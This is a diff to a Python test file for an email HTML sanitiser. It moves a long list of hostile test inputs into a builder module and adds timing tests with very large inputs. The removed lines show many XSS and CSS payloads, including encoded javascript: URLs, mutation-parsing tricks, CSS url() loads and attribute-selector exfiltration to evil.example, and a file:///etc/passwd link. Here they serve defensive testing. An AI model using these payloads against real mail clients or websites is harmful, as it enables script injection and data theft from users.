@@ -1,6 +1,7 @@
 """HTML of mail made harmless: what is a message stays, what runs, asks or loads does not, however it is written."""
 
 import re
+import time
 from html.parser import HTMLParser
 from typing import Any
 
@@ -12,6 +13,7 @@ from popfetch.adapters.sanitised_html import plain_address, sanitised, surely_ch
 from popfetch.adapters.sanitising_process import HtmlSanitiser
 from popfetch.domain.errors import HtmlUnreadable
 from popfetch.ports import CleanHtml
+from tests.builders.hostile_html import VECTORS
 from tests.builders.hostile_mail import HOSTILE_HTML
 
 IMAGES = {"logo@example.org": "data:image/png;base64,iVBORw0KGgo="}
@@ -65,141 +67,6 @@ def assert_harmless_css(html: str) -> None:
         for address in re.findall(r"url\(\s*([^)]*)", lowered):
             assert address.startswith('"data:image/'), style
         assert "<" not in style
-
-
-VECTORS = [
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<script/xss src=//evil.example></script>",
-    "<<script>alert(1);//<</script>",
-    "<img src=x onerror=alert(1)>",
-    "<img src=x onerror=&#97;lert(1)>",
-    "<img/src='x'/onerror=alert(1)>",
-    '<img """><script>alert(1)</script>">',
-    "<img src=javascript:alert(1)>",
-    "<img src=JaVaScRiPt:alert(1)>",
-    "<img src=`javascript:alert(1)`>",
-    '<img src="jav\tascript:alert(1)">',
-    '<img src="jav&#x0A;ascript:alert(1)">',
-    "<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
-    '<img src=" &#14; javascript:alert(1)">',
-    '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
-    '<img src="data:text/html,<script>alert(1)</script>">',
-    '<img srcset="javascript:alert(1) 1x, data:text/html,x 2x">',
-    '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">',
-    '<a href="javascript:alert(1)">x</a>',
-    '<a href="&#1;javascript:alert(1)">x</a>',
-    '<a href="java&Tab;script:alert(1)">x</a>',
-    '<a href="java&NewLine;script&colon;alert(1)">x</a>',
-    '<a href="\u00a0javascript:alert(1)">x</a>',
-    '<a href="vbscript:msgbox(1)">x</a>',
-    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
-    '<a href="data:image/png;base64,AAAA">x</a>',
-    '<a href="cid:logo@example.org">x</a>',
-    '<a href="file:///etc/passwd">x</a>',
-    '<a href="blob:https://example.org/x">x</a>',
-    '<a href="/accounts">x</a>',
-    '<a href="#x" onclick=alert(1) ping=https://evil.example>x</a>',
-    '<a href="https:alert(1)">x</a>',
-    '<area href="javascript:alert(1)" shape=default>',
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<svg><script xlink:href=data:,alert(1) /></svg>",
-    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
-    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
-    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
-    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
-    "<math><mtext></form><form><mglyph><svg><mtext><style><path id=</style><img onerror=alert(1) src>",
-    '<math><a xlink:href="javascript:alert(1)">x',
-    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
-    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
-    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
-    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
-    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
-    "<xmp><p title='</xmp><svg/onload=alert(1)>'></xmp>",
-    "<plaintext><img src=x onerror=alert(1)>",
-    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
-    "<table><td><svg><desc><td></desc></svg><script>alert(1)</script>",
-    "<!--><img src=x onerror=alert(1)>-->",
-    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
-    "<![CDATA[<img src=x onerror=alert(1)>]]>",
-    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
-    "<iframe src=javascript:alert(1)></iframe>",
-    '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
-    "<object data=javascript:alert(1)></object>",
-    "<embed src=javascript:alert(1)>",
-    "<applet code=x></applet>",
-    "<base href=javascript:alert(1)//>",
-    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
-    '<link rel=stylesheet href="javascript:alert(1)">',
-    '<link rel=import href="https://evil.example/x">',
-    "<form action=javascript:alert(1)><input type=submit></form>",
-    "<button formaction=javascript:alert(1)>x</button>",
-    "<input autofocus onfocus=alert(1)>",
-    "<keygen autofocus onfocus=alert(1)>",
-    "<details open ontoggle=alert(1)>",
-    "<marquee onstart=alert(1)>x</marquee>",
-    "<body onload=alert(1) background=javascript:alert(1)>",
-    '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x',
-    "<video><source onerror=alert(1)></video>",
-    "<audio src=x onerror=alert(1)>",
-    "<p style=width:expression(alert(1))>x",
-    "<p style='width:expr/**/ession(alert(1))'>x",
-    "<p style='width:e\\78pression(alert(1))'>x",
-    "<p style='behavior:url(#default#time2)'>x",
-    "<p style='-moz-binding:url(https://evil.example/x.xml#x)'>x",
-    "<p style='background:url(javascript:alert(1))'>x",
-    "<p style='background:url(\"data:image/svg+xml,<svg/onload=alert(1)>\")'>x",
-    "<p style='background:\\75rl(https://evil.example)'>x",
-    "<p style='background:\\000075\\000072\\00006c(https://evil.example)'>x",
-    "<p style='background:u\\\nrl(https://evil.example)'>x",
-    "<p style='background:url/**/(https://evil.example)'>x",
-    "<p style='background:url(https://evil.example'>x",
-    "<p style='background:image-set(\"https://evil.example\" 1x)'>x",
-    "<p style='background:-webkit-image-set(url(https://evil.example) 1x)'>x",
-    "<p style='background:image(\"https://evil.example\")'>x",
-    "<p style='background:src(\"https://evil.example\")'>x",
-    "<p style='background:var(--x); --x:url(https://evil.example)'>x",
-    "<p style='content:attr(title)'>x",
-    "<p style='position:fixed;top:0'>x",
-    "<p style='position:fi\\78 ed;top:0'>x",
-    "<p style='position:/**/sticky'>x",
-    "<p style='color:red;}body{background:url(https://evil.example)}'>x",
-    "<p style='font-family:\"</style><img src=x onerror=alert(1)>\"'>x",
-    "<style>@import 'https://evil.example/x.css';</style>",
-    "<style>@\\69mport 'https://evil.example/x.css';</style>",
-    "<style>@charset 'x'; @namespace url(https://evil.example); p{color:red}</style>",
-    "<style>@font-face{font-family:x;src:url(https://evil.example)}</style>",
-    "<style>p{background:url(https://evil.example)}</style>",
-    "<style>p{background:URL(  'https://evil.example'  )}</style>",
-    "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
-    "<style>@media screen{@import 'https://evil.example';p{background:url(https://evil.example)}}</style>",
-    "<style>p{color:red}</style ><img src=x onerror=alert(1)>",
-    "<style><img src=x onerror=alert(1)></style>",
-    "<style>p::before{content:'<img src=x onerror=alert(1)>'}</style>",
-    "<style>a[title='</style><script>alert(1)</script>']{color:red}</style>",
-    "<style media='x{}</style><script>alert(1)</script>'>p{color:red}</style>",
-    "<style media='} p { position: fixed } @media all'>p{color:red}</style>",
-    "<style>p{color:red}/*</style><script>alert(1)</script>*/",
-    "<style>\\3c/style\\3e\\3cscript\\3e alert(1){color:red}</style>",
-    "<style>p{font-family:'\\3c/style\\3e\\3cscript\\3e alert(1)'}</style>",
-    "<style>p{fill:red;behavior:url(x)}</style>",
-    "<style>{}*{background:url(//evil.example)}</style>",
-    "<body bgcolor='red;} p { position: fixed' >x</body>",
-    "<p title='<style>p{}</style><script>alert(1)</script>'>x",
-    "<p id=\"x' onclick='alert(1)\">x",
-    "<p class='<script>'>x",
-    "<img usemap='javascript:alert(1)'>",
-    "<a target=_self href=https://example.org>x</a>",
-    "\u003cscript\u003ealert(1)\u003c/script\u003e",
-    "<\0script>alert(1)</script>",
-    "<scri\0pt>alert(1)</scri\0pt>",
-    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
-    '<a href="https://example.org" style="x:expression(\'\\\');alert(1)//\')">x</a>',
-]
 
 
 @pytest.mark.parametrize("vector", [*VECTORS, HOSTILE_HTML])
@@ -365,3 +232,32 @@ class TestWhatIsNotSurelyCheap:
 )
 def test_an_address_is_read_as_browsers_do(address: str, plain: str) -> None:
     assert plain_address(address) == plain
+
+
+@pytest.mark.parametrize(
+    "document",
+    [
+        '<img srcset="' + "a" * 290_000 + ' b">',
+        '<img srcset="' + "a " * 140_000 + '">',
+        '<img srcset="' + "," * 290_000 + '">',
+        '<p style="' + "a:" * 140_000 + '">',
+        '<p style="color:' + "(" * 290_000 + '">',
+        '<p style="' + "url(" * 70_000 + '">',
+        "<style>" + "/*" * 140_000,
+        "<style>" + "@media a{" * 30_000,
+        "<style>" + "[" * 290_000 + "{}</style>",
+        "<style " * 3_900,
+        "<body " + " bgcolor" * 30_000 + ">",
+        "<!--" * 3_900,
+        '<a href="' + " \t" * 140_000 + 'https://example.org">x</a>',
+        "&" * 290_000,
+        "<div>" * 3_900,
+        "<table><tr><td>" * 1_300,
+    ],
+)
+def test_what_is_surely_cheap_is(document: str) -> None:
+    assert surely_cheap(document)
+    began = time.process_time()
+    html = clean(document).html
+    assert time.process_time() - began < 4
+    assert_harmless(html)
